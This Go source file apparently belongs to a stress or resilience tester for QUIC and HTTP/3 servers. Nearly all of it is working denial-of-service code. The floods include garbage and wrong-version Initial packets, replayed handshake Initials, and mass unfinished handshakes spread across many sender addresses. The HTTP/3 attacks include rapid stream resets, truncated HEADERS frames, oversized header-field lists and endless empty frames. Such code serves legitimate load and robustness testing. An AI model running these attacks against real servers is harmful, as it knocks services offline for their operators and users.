package main

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"net"
	"strings"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
)

// packets sends datagrams of a generator, from one socket after the other: no address is proven.
func packets(next func(i int) []byte) func(*attacker) (func(context.Context), error) {
	return func(a *attacker) (func(context.Context), error) {
		to, err := net.ResolveUDPAddr("udp", a.addr)
		if err != nil {
			return nil, err
		}
		var sockets []*net.UDPConn
		for i := range 64 {
			c, err := net.DialUDP("udp", &net.UDPAddr{IP: sender(int64(i))}, to)
			if err != nil {
				return nil, err
			}
			sockets = append(sockets, c)
		}
		return func(ctx context.Context) {
			var wg sync.WaitGroup
			for _, c := range sockets {
				wg.Go(func() {
					b := make([]byte, 2<<10)
					for {
						n, err := c.Read(b)
						if n == 0 && err != nil && ctx.Err() != nil {
							return
						}
						a.received.Add(int64(n))
					}
				})
			}
			for i := 0; ctx.Err() == nil; i++ {
				if n, err := sockets[i%len(sockets)].Write(next(i)); err == nil {
					a.sent.Add(int64(n))
					a.count.Add(1)
				}
			}
			for _, c := range sockets {
				c.Close()
			}
			wg.Wait()
		}, nil
	}
}

// quicGarbage sends Initial packets that nobody can decrypt.
func quicGarbage(a *attacker) (func(context.Context), error) {
	b := make([]byte, 1200)
	_, _ = rand.Read(b) // never fails
	copy(b, "\xc3\x00\x00\x00\x01\x08")
	copy(b[14:], "\x08")
	copy(b[23:], "\x00\x44\x98") // no token; the length of the rest
	return packets(func(i int) []byte {
		b[6], b[7], b[8] = byte(i), byte(i>>8), byte(i>>16)
		return b
	})(a)
}

// quicVersions asks for a version that there is none of.
func quicVersions(a *attacker) (func(context.Context), error) {
	b := make([]byte, 1200)
	copy(b, "\xc0\x1a\x2a\x3a\x4a\x08")
	copy(b[14:], "\x08")
	return packets(func(i int) []byte {
		b[6], b[7] = byte(i), byte(i>>8)
		return b
	})(a)
}

// quicInitials sends the first packets of handshakes that it made before, and nothing of what follows.
func quicInitials(a *attacker) (func(context.Context), error) {
	sink, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		return nil, err
	}
	defer sink.Close()
	var first [][]byte
	for len(first) < 5000 {
		ctx, cancel := context.WithCancel(context.Background())
		conf := cheapTLS(http3.NextProtoH3)
		conf.MinVersion = tls.VersionTLS13
		done := make(chan struct{})
		go func() {
			defer close(done)
			if c, err := quic.DialAddr(ctx, sink.LocalAddr().String(), conf, &quic.Config{DisablePathMTUDiscovery: true, InitialPacketSize: 1200}); err == nil {
				_ = c.CloseWithError(0, "")
			}
		}()
		b := make([]byte, 2<<10)
		_ = sink.SetReadDeadline(time.Now().Add(time.Second)) // never fails
		n, err := sink.Read(b)
		cancel()
		<-done
		if err != nil {
			return nil, err
		}
		if b[0]&0xf0 == 0xc0 && n >= 1200 { // an Initial: not what ends the one before
			first = append(first, b[:n])
		}
	}
	return packets(func(i int) []byte { return first[i%len(first)] })(a)
}

// quicUnfinished begins handshakes, proves its addresses where it is asked to, and goes no further.
func quicUnfinished(a *attacker) (func(context.Context), error) {
	to, err := net.ResolveUDPAddr("udp", a.addr)
	return func(ctx context.Context) {
		conf := cheapTLS(http3.NextProtoH3)
		conf.MinVersion = tls.VersionTLS13
		conf.VerifyConnection = func(tls.ConnectionState) error { <-ctx.Done(); return ctx.Err() }
		var wg sync.WaitGroup
		for i := range int64(attackers) {
			socket, err := net.ListenUDP("udp", &net.UDPAddr{IP: sender(i)})
			if err != nil {
				continue
			}
			tr := &quic.Transport{Conn: countedPackets{socket, a}}
			for range 300 {
				wg.Go(func() {
					for ctx.Err() == nil {
						a.count.Add(1)
						_, _ = tr.Dial(ctx, to, conf, nil) // refused, or not done
					}
				})
			}
			defer socket.Close()
		}
		wg.Wait()
	}, err
}

// onQUIC repeats an attack on streams of connections that are open.
func onQUIC(stream func(*quic.Stream)) func(*attacker) (func(context.Context), error) {
	return func(a *attacker) (func(context.Context), error) {
		return func(ctx context.Context) {
			for ctx.Err() == nil {
				a.count.Add(1)
				socket, err := net.ListenUDP("udp", &net.UDPAddr{IP: sender(a.count.Load())})
				if err != nil {
					continue
				}
				to, _ := net.ResolveUDPAddr("udp", a.addr) // was resolved by others
				c, err := quic.Dial(ctx, countedPackets{socket, a}, to, cheapTLS(http3.NextProtoH3), nil)
				for err == nil {
					var s *quic.Stream
					if s, err = c.OpenStreamSync(ctx); err == nil {
						stream(s)
					}
				}
				if c != nil {
					_ = c.CloseWithError(0, "")
				}
				socket.Close()
			}
		}, nil
	}
}

// countedPackets is a socket whose bytes an attacker counts.
type countedPackets struct {
	net.PacketConn
	a *attacker
}

func (c countedPackets) ReadFrom(p []byte) (int, net.Addr, error) {
	n, from, err := c.PacketConn.ReadFrom(p)
	c.a.received.Add(int64(n))
	return n, from, err
}

func (c countedPackets) WriteTo(p []byte, to net.Addr) (int, error) {
	n, err := c.PacketConn.WriteTo(p, to)
	c.a.sent.Add(int64(n))
	return n, err
}

// h3Request is a HEADERS frame of a request: all fields are of QPACK's static table but the host, and more.
func h3Request(method, more string) []byte {
	fields := "\x00\x00" + method + "\xd7\xc1\x50\x09" + host + more // https, /, and :authority with its value
	return append(binary.BigEndian.AppendUint16([]byte{1}, 0x4000|uint16(len(fields))), fields...)
}

var (
	h3Head       = h3Request("\xd1", "")                                // GET
	h3Post       = h3Request("\xd4", "")                                // POST
	h3ManyFields = h3Request("\xd1", strings.Repeat("\x21a\x01b", 120)) // each with both lengths
	h3TooMany    = h3Request("\xd1", strings.Repeat("\x21a\x01b", 400))
)

// h3Ask asks, and leaves.
func h3Ask(head []byte) func(*quic.Stream) {
	return func(s *quic.Stream) {
		_, _ = s.Write(head)
		_ = s.Close()
		s.CancelRead(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
	}
}

// h3Frames begins a request and goes on with frames of nothing.
func h3Frames(frame string) func(*quic.Stream) {
	b := []byte(strings.Repeat(frame, sendSize/len(frame)))
	return func(s *quic.Stream) {
		_, err := s.Write(h3Post)
		for i := 0; err == nil && i < 64; i++ {
			_, err = s.Write(b)
		}
		s.CancelWrite(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
		s.CancelRead(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
	}
}

var h3Resets = onQUIC(func(s *quic.Stream) {
	_, _ = s.Write(h3Head)
	s.CancelWrite(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
	s.CancelRead(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
})

var h3HalfHeads = onQUIC(func(s *quic.Stream) { _, _ = s.Write(h3Head[:5]) })
